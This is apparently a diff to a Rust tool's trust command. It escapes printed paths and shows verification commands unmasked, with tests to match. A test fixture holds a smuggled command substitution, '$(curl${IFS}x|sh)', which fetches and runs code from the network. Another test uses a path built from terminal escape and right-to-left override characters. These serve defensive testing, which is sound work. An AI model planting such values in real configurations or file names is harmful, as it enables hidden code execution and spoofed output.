@@ -2,6 +2,7 @@
 //! what they are.
 
 use crate::rules::config_values::command_value;
+use crate::rules::escape::one_line;
 use crate::sys::config_files::{self, Before};
 use crate::words::env::Env;
 use crate::words::error::{Context, Error, Kind};
@@ -20,7 +21,7 @@ pub fn run(env: &Env, dir: &Path, remove: bool, state: &Path, out: &mut dyn Writ
 
 fn removed(dir: &Path, state: &Path) -> Result<String, Error> {
     let was = if config_files::distrust(dir, state)? { "no longer trusted" } else { "was not trusted" };
-    Ok(format!("{was}: {}\n", dir.join(config_files::NAME).display()))
+    Ok(format!("{was}: {}\n", one_line(&dir.join(config_files::NAME).to_string_lossy())))
 }
 
 fn trusted(env: &Env, dir: &Path, state: &Path) -> Result<String, Error> {
@@ -30,13 +31,14 @@ fn trusted(env: &Env, dir: &Path, state: &Path) -> Result<String, Error> {
         Before::OtherBytes => "trusted again",
         Before::TheSame => "trusted already",
     };
-    let mut text = format!("{word}: {} (sha256 {})\n", trusted.path.display(), trusted.sha256);
+    let mut text = format!("{word}: {} (sha256 {})\n", one_line(&trusted.path.to_string_lossy()), trusted.sha256);
     if trusted.commands.is_empty() {
         text.push_str("it names no verification commands, so nothing changes\n");
         return Ok(text);
     }
     text.push_str("mux may run, until the file changes:\n");
     for command in &trusted.commands {
+        // To the last character: what was masked here as a secret would be run unseen.
         text.push_str("  ");
         command_value(command).write(&mut text, true);
         text.push('\n');
@@ -55,8 +57,11 @@ mod tests {
         let root = std::env::temp_dir().join(format!("mux-face-trust-{}", std::process::id()));
         fs::create_dir_all(root.join("state")).unwrap();
         let root = fs::canonicalize(root).unwrap();
-        fs::write(root.join("mux.yaml"), "verification: {commands: [make, [sh, -c, \"./a\\u001b[2J --token xyz\"]]}\n")
-            .unwrap();
+        fs::write(
+            root.join("mux.yaml"),
+            "verification: {commands: [make, [sh, -c, \"./a\\u001b[2J --token=$(curl${IFS}x|sh)\"]]}\n",
+        )
+        .unwrap();
         let env = Env { vars: [].into(), cwd: None, now: Utc(0) };
         let trust = |remove| {
             let mut out = Vec::new();
@@ -66,11 +71,20 @@ mod tests {
         let text = trust(false);
         let (first, rest) = text.split_once('\n').unwrap();
         assert!(first.starts_with("trusted: /mux.yaml (sha256 "), "{first}");
-        let commands = "  \"make\"\n  [\"sh\", \"-c\", \"./a\\u001b[2J --token ***\"]\n";
+        let commands = "  \"make\"\n  [\"sh\", \"-c\", \"./a\\u001b[2J --token=$(curl${IFS}x|sh)\"]\n";
         assert_eq!(rest, format!("mux may run, until the file changes:\n{commands}"));
         assert!(trust(false).starts_with("trusted already: "));
         assert_eq!(trust(true), "no longer trusted: /mux.yaml\n");
         assert_eq!(trust(true), "was not trusted: /mux.yaml\n");
+        let hostile = root.join("a\u{1b}[2J\u{202e}");
+        fs::create_dir(&hostile).unwrap();
+        fs::write(hostile.join("mux.yaml"), "").unwrap();
+        for remove in [false, true] {
+            let mut out = Vec::new();
+            run(&env, &hostile, remove, &root.join("state"), &mut out).unwrap();
+            let text = String::from_utf8(out).unwrap();
+            assert!(text.contains("/a\\x1b[2J\\u{202e}/mux.yaml"), "{text:?}");
+        }
         fs::remove_dir_all(root).unwrap();
     }
 }
